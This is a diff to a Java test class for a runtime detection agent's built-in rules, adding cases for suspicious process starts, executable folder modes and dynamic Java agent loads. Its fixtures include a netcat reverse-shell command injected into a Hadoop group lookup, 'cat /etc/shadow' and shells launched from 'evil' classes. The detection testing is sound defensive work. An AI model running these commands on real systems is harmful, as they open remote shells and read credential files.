@@ -38,6 +38,25 @@ class BuiltInRulesTest {
     return event(EventType.FILE_MODE, "path", path, "mode", mode);
   }
 
+  private static AgentEvent folderMode(String path, String mode) {
+    return event(EventType.FILE_MODE, "path", path, "mode", mode, "folder", true);
+  }
+
+  private static AgentEvent agent(String jar, String className) {
+    return event(EventType.AGENT_LOAD, "jar", jar, "className", className);
+  }
+
+  /** As the JDK's frames are above the one that asks for the program. */
+  private static AgentEvent probed(String command, String frame) {
+    return started(
+        command,
+        "java.lang.ProcessImpl.start",
+        "java.lang.ProcessBuilder.start",
+        "java.lang.Runtime.exec",
+        frame,
+        REQUEST);
+  }
+
   private static AgentEvent renamed(String target) {
     return event(EventType.FILE_RENAME, "path", "/tmp/upload", "target", target);
   }
@@ -242,19 +261,45 @@ class BuiltInRulesTest {
               new Cases(
                   List.of(
                       started("/usr/bin/id", REQUEST),
-                      started("/usr/bin/uname -a", "oshi.util.ExecutingCommand.runNative")),
+                      started("/usr/bin/uname -a", "oshi.util.ExecutingCommand.runNative"),
+                      probed("uname -a", "org.sqlite.util.ProcessRunner.runAndWaitFor"),
+                      probed("uname -o", "evil.Shell.run"),
+                      started(
+                          "uname -o",
+                          "java.lang.ProcessBuilder.start",
+                          "evil.Shell.run",
+                          "org.sqlite.util.ProcessRunner.runAndWaitFor"),
+                      probed("/sbin/ldconfig -p /tmp", "com.sun.jna.NativeLibrary.getLinuxLdPaths"),
+                      probed("setsid bash -c id", "org.apache.hadoop.util.Shell.<clinit>"),
+                      started(
+                          "cat /etc/shadow",
+                          "oshi.util.ExecutingCommand.runNative",
+                          "oshi.software.os.linux.LinuxOperatingSystem.x")),
                   List.of(
                       started(
                           "uname -r",
                           "oshi.util.ExecutingCommand.runNative",
                           "oshi.software.os.linux.LinuxOperatingSystem.queryBitness"),
-                      started("setsid bash -c exit", "org.apache.hadoop.util.Shell.<clinit>")))),
+                      started("setsid bash -c exit", "org.apache.hadoop.util.Shell.<clinit>"),
+                      probed("uname -o", "org.sqlite.util.ProcessRunner.runAndWaitFor"),
+                      probed("uname -m", "org.sqlite.util.OSInfo.getHardwareName"),
+                      probed("uname -m", "org.xerial.snappy.OSInfo.getHardwareName"),
+                      probed("/sbin/ldconfig -p", "com.sun.jna.NativeLibrary.getLinuxLdPaths"),
+                      probed(
+                          "/usr/bin/env sh -c ldd /usr/bin/env | grep -q musl",
+                          "org.rocksdb.util.Environment.initIsMuslLibc"),
+                      probed("getconf PAGESIZE", "org.apache.spark.util.Utils$.executeCommand")))),
           entry(
               "Shell or Download Tool Started by the Application",
               new Cases(
                   List.of(
                       started("/bin/sh -c id"),
                       started("bash"),
+                      started(
+                          "bash -c id -gn x; id -Gn x; nc 10.0.0.1 4444",
+                          "java.lang.ProcessBuilder.start",
+                          "org.apache.hadoop.util.Shell.runCommand",
+                          "org.apache.hadoop.security.ShellBasedUnixGroupsMapping.x"),
                       started("/usr/bin/env -i A=b /bin/dash -i"),
                       started("setsid nohup sh"),
                       started("/tmp/busybox nc 10.0.0.1 4444"),
@@ -263,6 +308,11 @@ class BuiltInRulesTest {
                       event(EventType.PROCESS_START, "command", List.of("/bin/sh", "-c", "echo x")),
                       started("/usr/bin/python3.11 -c 1")),
                   List.of(
+                      started(
+                          "bash -c id -gn 'u1'; id -Gn 'u1'",
+                          "java.lang.ProcessBuilder.start",
+                          "org.apache.hadoop.util.Shell.runCommand",
+                          "org.apache.hadoop.security.ShellBasedUnixGroupsMapping.x"),
                       started("/usr/bin/ssh-keygen -t ed25519"),
                       started("/usr/bin/convert /srv/sh /srv/x"),
                       started("/opt/bash-tools/render a"),
@@ -416,6 +466,8 @@ class BuiltInRulesTest {
                       written("/tmp/hsperfdata_root/1"),
                       written("/data/x.sh"),
                       renamed("/data/x.so"),
+                      folderMode("/tmp/spark-1", "+x"),
+                      folderMode("/tmp/spark-1", "40755"),
                       mode("/tmp/x", "-x"),
                       mode("/tmp/x", "+w"),
                       mode("/tmp/x", "644"),
@@ -462,6 +514,9 @@ class BuiltInRulesTest {
                           List.of("sun.instrument.InstrumentationImpl.loadClassAndCallAgentmain"),
                           "jar",
                           "evil.Agent"),
+                      agent("/tmp/byteBuddyAgent123.jar", "evil.Agent"),
+                      agent("/tmp/evil.jar", "net.bytebuddy.agent.Installer"),
+                      agent("/app/lib/reactor-tools-3.6.5.jar", "evil.Agent"),
                       event(EventType.JDK_JAVA_AGENT, "name", "x.jar", "dynamic", true),
                       event(EventType.JDK_NATIVE_AGENT, "name", "libx.so", "dynamic", true)),
                   List.of(
@@ -470,6 +525,17 @@ class BuiltInRulesTest {
                           List.of("sun.instrument.InstrumentationImpl.loadClassAndCallPremain"),
                           "jar",
                           "io.opentelemetry.javaagent.OpenTelemetryAgent"),
+                      agent("/tmp/byteBuddyAgent1234567890.jar", "net.bytebuddy.agent.Installer"),
+                      agent(
+                          "/tmp/byteBuddyAgent7.jar",
+                          "reactor.tools.shaded.net.bytebuddy.agent.Installer"),
+                      agent("/m2/blockhound-1.0.9.RELEASE.jar", "reactor.blockhound.BlockHound"),
+                      event(
+                          EventType.JDK_JAVA_AGENT,
+                          "name",
+                          "/tmp/byteBuddyAgent7.jar",
+                          "dynamic",
+                          true),
                       event(EventType.JDK_JAVA_AGENT, "name", "x.jar", "dynamic", false)))),
           entry(
               "Connection to a Cloud Metadata Service",
